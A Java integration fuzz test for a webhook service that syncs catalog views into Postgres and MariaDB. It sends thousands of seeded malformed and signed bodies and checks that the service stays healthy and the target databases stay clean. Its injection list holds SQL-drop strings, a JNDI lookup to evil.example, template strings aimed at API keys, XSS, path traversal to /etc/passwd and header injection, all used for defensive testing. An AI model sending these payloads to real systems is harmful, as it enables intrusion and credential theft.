package org.viewsync;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.TreeSet;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import org.junit.jupiter.api.Test;
import org.viewsync.support.FakeImmuta;
import org.viewsync.support.Notifications;
import org.viewsync.support.ViewSyncIntegrationTest;

/**
 * Thousands of generated webhook bodies, from a fixed seed: broken JSON, wrong types, huge numbers, deep nesting,
 * unicode and injection strings in every field, most of them correctly signed so that they reach the parsing. Every
 * answer must be 2xx or 4xx, the service must stay healthy, and the target must gain no object but the one view the
 * catalog wants.
 */
class HostileInputFuzzTest extends ViewSyncIntegrationTest {

    static final long SEED = Long.getLong("fuzz.seed", 20261129L);
    /** -Dfuzz.bodies=100000 -Dfuzz.seed=... for a longer run; the suite's default keeps it within its time. */
    static final int BODIES = Integer.getInteger("fuzz.bodies", 6_000);
    static final ObjectMapper JSON = new ObjectMapper();

    static final List<String> INJECTIONS = List.of(
            "'; DROP TABLE sales.customers; --", "\"; DROP VIEW immuta_views.x; --", "` OR 1=1 --", "1; DELETE FROM inbox",
            "${header.Authorization}", "${bean:inboxWriter}", "{{immuta.api-key}}", "$simple{variable.global:immutaToken}",
            "${jndi:ldap://evil.example/a}", "<script>alert(1)</script>", "../../../../etc/passwd", "\u0000", "\\u0000",
            "Robert'); DROP TABLE students;--", "x\" , \"notificationType\": \"modelDeleted", "%s%s%s%n", "\r\nX-Injected: 1");
    static final List<String> TYPES = List.of("dataSourceUpdated", "policyUpdated", "addedToProject", "removedFromProject",
            "projectEqualizationToggled", "projectDisabled", "modelDeleted", "deletedDatasourceRemovedFromProject",
            "expiredDatasourceRemovedFromProject", "modelCreated", "", "POLICYUPDATED");

    @Test
    void thousandsOfHostileBodiesLeaveTheServiceHealthyAndTheTargetClean() throws Exception {
        FakeImmuta.dataSource(1, "Customers", "customers", "PostgreSQL");
        FakeImmuta.project(7, "Clients", true);
        FakeImmuta.viewSql(1, 7, "SELECT id, name FROM sales.customers");
        FakeImmuta.projectsContaining(1, PAGE_SIZE, Map.of(7L, "Clients"));
        FakeImmuta.projectDataSources(7, PAGE_SIZE, List.of(FakeImmuta.projectDataSource(1, "Customers", "PostgreSQL")));
        FakeImmuta.equalizedProjects(PAGE_SIZE, Map.of(7L, "Clients"));
        FakeImmuta.everythingElseNotFound();
        Set<String> before = POSTGRES.objects();
        Set<String> mariaBefore = MARIADB.objects();
        Random random = new Random(SEED);
        List<byte[]> bodies = new ArrayList<>();
        List<Boolean> signed = new ArrayList<>();
        for (int i = 0; i < BODIES; i++) {
            bodies.add(body(random));
            signed.add(random.nextInt(10) != 0);
        }

        Map<Integer, Integer> statuses = new ConcurrentHashMap<>();
        List<String> serverErrors = new ArrayList<>();
        HttpClient http = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).build();
        ExecutorService senders = Executors.newFixedThreadPool(4);
        List<Future<?>> sent = new ArrayList<>();
        long sendingStarted = System.nanoTime();
        for (int i = 0; i < BODIES; i++) {
            byte[] body = bodies.get(i);
            HttpRequest.Builder request = HttpRequest.newBuilder(webhookUri()).timeout(Duration.ofSeconds(10))
                    .header("Content-Type", "application/json").POST(HttpRequest.BodyPublishers.ofByteArray(body));
            if (signed.get(i)) {
                request.header(SIGNATURE_HEADER, signature(body));
            }
            sent.add(senders.submit(() -> {
                HttpResponse<String> response = http.send(request.build(), HttpResponse.BodyHandlers.ofString());
                statuses.merge(response.statusCode(), 1, Integer::sum);
                if (response.statusCode() >= 500) {
                    synchronized (serverErrors) {
                        serverErrors.add(response.statusCode() + " for " + new String(body, StandardCharsets.UTF_8));
                    }
                }
                return null;
            }));
        }
        for (Future<?> future : sent) {
            future.get();
        }
        senders.shutdown();

        System.out.printf("FUZZ %d bodies (seed %d) answered %s in %d ms%n", BODIES, SEED, statuses, (System.nanoTime() - sendingStarted) / 1_000_000);
        assertThat(serverErrors).as("answers to " + statuses).isEmpty();
        assertThat(statuses.keySet()).allMatch(status -> status >= 200 && status < 500);
        assertThat(statuses).as("the generator exercised acceptance and every rejection")
                .containsKeys(202, 400, 401);
        long processingStarted = System.nanoTime();
        awaitQuiet();
        System.out.printf("FUZZ processed in %d ms%n", (System.nanoTime() - processingStarted) / 1_000_000);
        HttpResponse<String> health = HttpClient.newHttpClient().send(HttpRequest.newBuilder(
                URI.create("http://localhost:" + port + "/actuator/health")).build(), HttpResponse.BodyHandlers.ofString());
        assertThat(health.statusCode()).isEqualTo(200);
        assertThat(health.body()).contains("\"status\":\"UP\"");
        Set<String> allowed = new TreeSet<>(before);
        allowed.add(POSTGRES.schema + ".clients__customers");
        assertThat(allowed).containsAll(POSTGRES.objects());
        assertThat(MARIADB.objects()).isEqualTo(mariaBefore);
        assertThat(POSTGRES.customers()).hasSize(3);
    }

    private static byte[] body(Random random) throws Exception {
        return switch (random.nextInt(7)) {
            case 0 -> truncated(random);
            case 1 -> randomBytes(random);
            case 2 -> JSON.writeValueAsBytes(wrongTypes(random));
            case 3 -> deeplyNested(random);
            case 4 -> JSON.writeValueAsBytes(withStrings(random, () -> unicode(random)));
            case 5 -> JSON.writeValueAsBytes(withStrings(random, () -> INJECTIONS.get(random.nextInt(INJECTIONS.size()))));
            default -> JSON.writeValueAsBytes(hugeNumbers(random));
        };
    }

    private static Map<String, Object> notification(Random random) throws Exception {
        long id = 1 + random.nextInt(3);
        String json = switch (random.nextInt(5)) {
            case 0 -> Notifications.addedToProject(id, 7);
            case 1 -> Notifications.removedFromProject(id, 7);
            case 2 -> Notifications.dataSourceUpdated(id, random.nextBoolean());
            case 3 -> Notifications.projectPolicyUpdated(7);
            default -> Notifications.dataSourcePolicyUpdated(id);
        };
        @SuppressWarnings("unchecked")
        Map<String, Object> body = JSON.readValue(json, LinkedHashMap.class);
        return body;
    }

    private static byte[] truncated(Random random) throws Exception {
        byte[] whole = JSON.writeValueAsBytes(notification(random));
        byte[] cut = new byte[random.nextInt(whole.length)];
        System.arraycopy(whole, 0, cut, 0, cut.length);
        return cut;
    }

    private static byte[] randomBytes(Random random) {
        byte[] bytes = new byte[random.nextInt(512)];
        random.nextBytes(bytes);
        return bytes;
    }

    private static Map<String, Object> wrongTypes(Random random) throws Exception {
        Map<String, Object> body = notification(random);
        List<String> keys = new ArrayList<>(body.keySet());
        for (int i = 0; i < 1 + random.nextInt(3); i++) {
            body.put(keys.get(random.nextInt(keys.size())), anyValue(random));
        }
        if (random.nextInt(4) == 0) {
            body.put("notificationType", TYPES.get(random.nextInt(TYPES.size())));
        }
        return body;
    }

    private static Object anyValue(Random random) {
        return switch (random.nextInt(9)) {
            case 0 -> null;
            case 1 -> random.nextBoolean();
            case 2 -> random.nextDouble() * 1e6;
            case 3 -> "7";
            case 4 -> List.of(1, 2);
            case 5 -> Map.of("id", 1);
            case 6 -> new java.math.BigInteger(200, random);
            case 7 -> -random.nextInt(1000);
            default -> random.nextLong();
        };
    }

    private static byte[] deeplyNested(Random random) {
        int depth = 500 + random.nextInt(5000);
        String open = random.nextBoolean() ? "[" : "{\"a\":";
        String close = open.equals("[") ? "]" : "}";
        return ("{\"notificationType\":\"policyUpdated\",\"modelType\":\"datasource\",\"modelId\":1,\"fields\":"
                + open.repeat(depth) + "1" + close.repeat(depth) + "}").getBytes(StandardCharsets.UTF_8);
    }

    private static Map<String, Object> withStrings(Random random, java.util.function.Supplier<String> strings) throws Exception {
        Map<String, Object> body = notification(random);
        for (String key : new ArrayList<>(body.keySet())) {
            if (!key.equals("notificationType") && (body.get(key) instanceof String || random.nextInt(3) == 0)) {
                body.put(key, strings.get());
            }
        }
        body.put(strings.get(), strings.get());
        return body;
    }

    private static String unicode(Random random) {
        StringBuilder text = new StringBuilder();
        int length = 1 + random.nextInt(40);
        for (int i = 0; i < length; i++) {
            int codePoint = switch (random.nextInt(4)) {
                case 0 -> 0x1F600 + random.nextInt(80);
                case 1 -> 0x0590 + random.nextInt(0x100);
                case 2 -> 0x200B + random.nextInt(5);
                default -> random.nextInt(0xD7FF);
            };
            text.appendCodePoint(codePoint);
        }
        return text.toString();
    }

    private static Map<String, Object> hugeNumbers(Random random) throws Exception {
        Map<String, Object> body = notification(random);
        Object huge = random.nextBoolean() ? new java.math.BigInteger(64 + random.nextInt(4000), random) : Double.MAX_VALUE;
        body.put(random.nextBoolean() ? "modelId" : "dataSourceId", huge);
        return body;
    }
}
